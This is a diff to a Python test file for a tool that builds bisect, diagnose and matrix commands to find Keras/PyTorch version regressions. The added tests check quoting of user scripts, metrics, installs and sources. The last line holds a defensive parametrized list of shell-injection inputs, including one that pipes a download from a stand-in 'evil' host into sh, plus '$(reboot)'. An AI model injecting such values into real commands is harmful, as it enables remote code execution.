@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import shlex
 from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
 import click
@@ -143,6 +144,86 @@ def test_every_command_of_a_report_is_one_that_the_program_takes(quick: Report) 
     lines = [line for f in findings(replace(quick, invocation=given)) for line in f.commands]
     assert {line.split()[3] for line in lines} == {"bisect", "diagnose", "matrix"}
     assert all(accepted(line) for line in lines)
+
+
+class TestOwnCode:
+    """Commands about a user's script, tests and probes."""
+
+    def test_a_figure_of_a_script_is_bisected_by_its_pattern(self) -> None:
+        given = r"--script 'my train.py' --network --with scipy --metric 'loss=(\S+)' --metric 'acc=([\d.]+)'"
+        figure = worse(OLD, NEW, "printed.acc", probe="script")
+        samples = tuple(
+            replace(ran(cell, probe="script"), metrics=(Metric("printed.acc", 0.9, Kind.SEEDED, Better.HIGHER),))
+            for cell in (OLD, NEW)
+        )
+        (bisect,) = commands(figure, samples=samples, invocation=given)
+        assert bisect == (
+            "python -m runner bisect torch --good 2.2.2 --bad 2.15.0 --cell torch-2.15.0_keras-3.11.3_py3.11_cpu "
+            r"--script 'my train.py' --network --metric 'acc=([\d.]+)' --with scipy"
+        )
+        assert accepted(bisect)
+
+    @pytest.mark.parametrize(("status", "there"), [(Status.CRASHED, True), (Status.BAD_OUTPUT, False)])
+    def test_a_script_that_fails_is_bisected_where_its_exit_code_says_it(self, status: Status, *, there: bool) -> None:
+        broken = worse(OLD, NEW, "status", probe="script", verdict=Verdict.BROKEN, baseline_value=Status.OK)
+        samples = (ran(OLD, probe="script"), ran(NEW, status, probe="script"))
+        found = commands(broken, samples=samples, invocation="--script train.py")
+        assert [line.split()[3] for line in found] == (["bisect", "matrix"] if there else ["matrix"])
+        assert all(accepted(line) for line in found)
+
+    def test_the_time_of_tests_is_bisected_with_the_tests(self) -> None:
+        given = "--with pytest-timeout --install '.[test]' --pytest tests"
+        slower = worse(OLD, NEW, "suite.time_s", probe="suite")
+        samples = tuple(
+            replace(ran(cell, probe="suite"), metrics=(Metric("suite.time_s", 1.0, Kind.TIMING, Better.LOWER, "s"),))
+            for cell in (OLD, NEW)
+        )
+        (bisect,) = commands(slower, samples=samples, invocation=given)
+        assert bisect.endswith("_cpu --install '.[test]' --pytest tests --metric suite.time_s --with pytest-timeout")
+        assert accepted(bisect)
+        (bare,) = commands(slower, samples=samples, invocation="--seed 3 --pytest")
+        assert bare.endswith("_cpu --pytest --metric suite.time_s")
+        assert accepted(bare)
+
+    def test_without_keras_no_test_is_needed_to_find_the_release(self) -> None:
+        broken = worse(OLD, NEW, "status", probe="suite", verdict=Verdict.BROKEN, baseline_value=Status.OK)
+        samples = (ran(OLD, probe="suite"), ran(NEW, Status.IMPORT_FAILED, probe="suite"))
+        bisect, _ = commands(broken, samples=samples, invocation="--pytest tests")
+        assert bisect.endswith("_cpu --probe hello")
+        samples = (ran(OLD, probe="suite"), ran(NEW, Status.CRASHED, probe="suite"))
+        assert [line.split()[3] for line in commands(broken, samples=samples)] == ["matrix"]
+
+    def test_packages_of_the_user_s_set_are_installed_for_a_bisection_too(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        (tmp_path / "keras-matrix.toml").write_text(
+            'schema = 1\n[sets.mine]\ndescription = "d"\npackages = ["scipy==1.15.3", "torch>=2", "keras<4"]\n'
+            '[probes.dense]\nfile = "dense.py"\n'
+        )
+        (tmp_path / "dense.py").write_text("DEFAULTS = {'units': 8}\n")
+        monkeypatch.chdir(tmp_path)
+        figure = worse(OLD, NEW, STEP, probe="dense")
+        samples = tuple(ran(cell, probe="dense", units=16) for cell in (OLD, NEW))
+        (bisect,) = commands(figure, samples=samples, set_name="mine")
+        assert bisect.endswith("--probe dense --metric free.step_s --setting dense.units=16 --with scipy==1.15.3")
+        (other,) = commands(figure, samples=samples, set_name="quick")
+        assert "--with" not in other
+
+    def test_the_model_of_a_user_s_probe_is_diagnosed(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        (tmp_path / "keras-matrix.toml").write_text('schema = 1\n[probes.dense]\nfile = "dense.py"\n')
+        (tmp_path / "dense.py").write_text("DEFAULTS = {'units': 8}\ndef diagnose(settings): pass\n")
+        monkeypatch.chdir(tmp_path)
+        samples = tuple(ran(cell, probe="dense", units=16) for cell in (OLD, NEW))
+        bisect, diagnose = commands(worse(OLD, NEW, probe="dense"), samples=samples)
+        assert bisect.endswith("--probe dense --metric free.test_accuracy --setting dense.units=16")
+        assert diagnose.endswith("_cpu --probe dense --setting dense.units=16")
+        assert accepted(bisect)
+        assert accepted(diagnose)
+
+    def test_a_source_that_is_not_an_axis_is_built_for_a_bisection_too(self) -> None:
+        given = "--source keras-hub=../hub --source torch=../torch"
+        bisect, _ = commands(worse(OLD, NEW), invocation=given)
+        assert bisect.endswith("--metric free.test_accuracy --source keras-hub=../hub")
 
 
 @pytest.mark.parametrize("evil", ["1'; curl evil | sh; '", "$(reboot)", "a b", "1\n2", "`id`"])
